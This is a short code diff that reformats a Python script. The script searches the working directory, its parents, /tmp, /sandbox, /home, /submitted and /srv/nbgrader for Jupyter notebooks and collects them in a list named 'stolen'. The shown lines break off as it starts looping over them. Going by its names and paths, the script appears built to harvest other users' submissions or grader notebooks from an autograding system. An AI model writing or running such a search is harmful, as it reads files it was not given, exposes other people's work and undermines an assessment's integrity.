@@ -9,7 +9,18 @@ import json
 import os
 
 stolen = []
-for start in (".", "..", "../..", "../../..", "/tmp", "/sandbox", "/work", "/home", "/submitted", "/srv/nbgrader"):
+for start in (
+    ".",
+    "..",
+    "../..",
+    "../../..",
+    "/tmp",
+    "/sandbox",
+    "/work",
+    "/home",
+    "/submitted",
+    "/srv/nbgrader",
+):
     for depth in ("/*.ipynb", "/*/*.ipynb", "/*/*/*.ipynb", "/*/*/*/*.ipynb", "/submitted/*/*/*.ipynb"):
         stolen += glob.glob(start + depth)
 for path in stolen:
